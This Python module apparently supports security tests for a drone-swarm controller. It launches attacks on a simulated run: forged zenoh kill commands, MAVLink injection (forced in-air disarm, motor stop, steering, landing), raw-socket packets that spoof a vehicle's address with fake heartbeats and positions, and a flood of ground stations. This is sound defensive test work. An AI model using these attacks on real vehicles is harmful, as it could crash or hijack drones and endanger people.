"""Attacks on a run of `swarm-ctl run`, from a process that is none of it: over zenoh, and over UDP
to the vehicles and, with a forged address, to the agents."""

from __future__ import annotations

import json
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any, Final, Self

import zenoh
from pymavlink.dialects.v10 import ardupilotmega as old
from pymavlink.dialects.v20 import ardupilotmega as mavlink

from swarm_ctl.commands.parse import Order
from swarm_ctl.core.model.messages import AgentState, Command
from swarm_ctl.engine.station.run_client import RunClient
from swarm_ctl.errors import StartError
from swarm_ctl.mavlink.wires import local_port
from swarm_ctl.mesh import keys
from swarm_ctl.mesh.payloads import decode, encode
from swarm_ctl.runfolder.manifest import Manifest

LOCALHOST: Final = "127.0.0.1"
FORCE: Final = 21196
"""MAV_CMD_COMPONENT_ARM_DISARM: also in the air."""
LAND_MODE: Final = 9
"""ArduCopter's LAND."""
Address = tuple[str, int]


@dataclass(frozen=True)
class Target:
    """A run, as an attacker of the same machine finds it."""

    manifest: Manifest

    def vehicle(self, agent: int) -> Address:
        """Where the simulated vehicle of an agent listens."""
        endpoint = next(e.endpoint for e in self.manifest.fleet if e.id == agent)
        host, port = (endpoint or "").split(":")[1:]
        return host, int(port)

    @property
    def agents(self) -> list[int]:
        return [entry.id for entry in self.manifest.fleet]


class _Sender:
    """Owns a socket; a context manager."""

    _socket: socket.socket

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()


class GroundStation(_Sender):
    """MAVLink to one vehicle from a port of its own."""

    def __init__(self, target: Target, agent: int, *, version: int = 2) -> None:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._to = target.vehicle(agent)
        self.sysid = next(e.sysid for e in target.manifest.fleet if e.id == agent)
        self._mav = (mavlink if version == 2 else old).MAVLink(None, 255, 190)

    def send(self, message: Any) -> None:
        self._socket.sendto(message.pack(self._mav), self._to)

    def command(self, number: int, *parameters: float) -> None:
        values = (*parameters, *(0.0,) * (7 - len(parameters)))
        self.send(mavlink.MAVLink_command_long_message(self.sysid, 1, number, 0, *values))


class Spoofed(_Sender):
    """Datagrams to an agent with its vehicle's address as their sender's; PermissionError where
    this user may not make them."""

    def __init__(self, target: Target, agent: int) -> None:
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._from = target.vehicle(agent)
        sysid = next(e.sysid for e in target.manifest.fleet if e.id == agent)
        self._mav = mavlink.MAVLink(None, sysid, 1)

    @staticmethod
    def probe() -> None:
        """PermissionError where this user may not."""
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).close()

    def send(self, message: Any) -> None:
        data = message.pack(self._mav)
        to = local_port(self._from)
        udp = struct.pack("!4H", self._from[1], to, 8 + len(data), 0) + data
        here = socket.inet_aton(LOCALHOST)
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, here, here)
        self._socket.sendto(head + udp, (LOCALHOST, 0))


Attack = Callable[[Target, threading.Event], None]
"""Goes on until the event is set, or ends by itself."""


def kill(target: Target, _: threading.Event) -> None:
    """Of all, from a zenoh client on one endpoint, at the time that the agent there says."""
    config = zenoh.Config()
    config.insert_json5("mode", json.dumps("client"))
    config.insert_json5("connect/endpoints", json.dumps([target.manifest.agents_mesh[0]]))
    config.insert_json5("scouting/multicast/enabled", "false")
    config.insert_json5("connect/timeout_ms", "3000")
    try:
        session = zenoh.open(config)
    except zenoh.ZError:
        return  # no link: that is the end of it
    said = list[bytes]()
    swarm = target.manifest.swarm
    states = session.declare_subscriber(
        keys.STATE.key(swarm, 1), lambda sample: said.append(sample.payload.to_bytes())
    )
    for number in range(30):
        time.sleep(0.1)
        if said and said[-1]:
            now = decode(AgentState, said[-1]).time_s
            command = Command(f"forged-{number}", "kill", (), now, number=number + 1)
            session.put(keys.COMMAND.key(swarm, "evil"), encode(command))
    states.undeclare()
    session.close()


def kill_by_program(target: Target, _: threading.Event) -> None:
    """Of all, by the program itself, which has the run's own description, but no keys."""
    run = json.loads(target.manifest.model_dump_json().replace("tls/", "tcp/"))
    with TemporaryDirectory() as stolen:
        keyless = json.dumps(run | {"trust": None, "identity": None})
        Path(stolen, "run.json").write_text(keyless)
        try:
            with RunClient(Path(stolen)) as client:
                assert client.order(Order("kill")).accepted
        except StartError as refused:
            if f"no agent of {target.manifest.swarm} can be heard" not in str(refused):
                raise


def steer(target: Target, end: threading.Event) -> None:
    """Two vehicles, by SET_POSITION_TARGET, to one place."""
    mask = 0b110111111000  # a position alone
    with ExitStack() as opened:
        stations = [opened.enter_context(GroundStation(target, agent)) for agent in (1, 2)]
        while not end.wait(0.01):
            for each in stations:
                each.send(
                    mavlink.MAVLink_set_position_target_local_ned_message(
                        0, each.sysid, 1, 1, mask, 65.0, 65.0, -10.0, 0, 0, 0, 0, 0, 0, 0, 0
                    )
                )


def disarm(target: Target, _: threading.Event) -> None:
    """One vehicle, in the air, by force."""
    with GroundStation(target, 3) as station:
        station.command(mavlink.MAV_CMD_COMPONENT_ARM_DISARM, 0, FORCE)


def one_heartbeat(target: Target, _: threading.Event) -> None:
    """In mode LAND, to one agent, with its vehicle's address."""
    armed = mavlink.MAV_MODE_FLAG_SAFETY_ARMED | mavlink.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED
    with Spoofed(target, 3) as forged:
        forged.send(mavlink.MAVLink_heartbeat_message(2, 3, armed, LAND_MODE, 4, 3))


def positions(target: Target, end: threading.Event) -> None:
    """LOCAL_POSITION_NED, 8 m off, to one agent, with its vehicle's address."""
    since = time.monotonic()
    with Spoofed(target, 3) as forged:
        while not end.wait(0.01):
            boot_ms = round((time.monotonic() - since) * 1000 * target.manifest.speedup) + 60_000
            forged.send(
                mavlink.MAVLink_local_position_ned_message(boot_ms, 8.0, 8.0, -10.0, 0.0, 0.0, 0.0)
            )


def stop_motor(target: Target, _: threading.Event) -> None:
    """One vehicle's, by PARAM_SET of a simulator's own parameter."""
    with GroundStation(target, 3) as station:
        station.send(mavlink.MAVLink_param_set_message(station.sysid, 1, b"SIM_MOTOR_STOP", 1.0, 9))


def old_land(target: Target, _: threading.Event) -> None:
    """One vehicle, by NAV_LAND in MAVLink 1."""
    with GroundStation(target, 3, version=1) as station:
        station.command(mavlink.MAV_CMD_NAV_LAND)


def crowd(target: Target, end: threading.Event) -> None:
    """40 ground stations on one vehicle's port."""
    with ExitStack() as opened:
        stations = [opened.enter_context(GroundStation(target, 3)) for _ in range(40)]
        while not end.wait(0.1):
            for each in stations:
                each.send(mavlink.MAVLink_heartbeat_message(6, 8, 0, 0, 4, 3))


ATTACKS: Final[dict[str, Attack]] = {
    "kill from a zenoh client": kill,
    "kill by the program": kill_by_program,
    "SET_POSITION_TARGET to two vehicles": steer,
    "a forced disarming": disarm,
    "one heartbeat in mode LAND": one_heartbeat,
    "forged positions": positions,
    "SIM_MOTOR_STOP": stop_motor,
    "NAV_LAND in MAVLink 1": old_land,
    "40 ground stations": crowd,
}


@contextmanager
def under(attack: Attack, manifest: Manifest) -> Iterator[None]:
    """The attack goes on beside the block; what it raises comes at its end."""
    end, raised = threading.Event(), list[BaseException]()

    def work() -> None:
        try:
            attack(Target(manifest), end)
        except BaseException as error:
            raised.append(error)

    thread = threading.Thread(target=work)
    thread.start()
    try:
        yield
    finally:
        end.set()
        thread.join()
    if raised:
        raise raised[0]
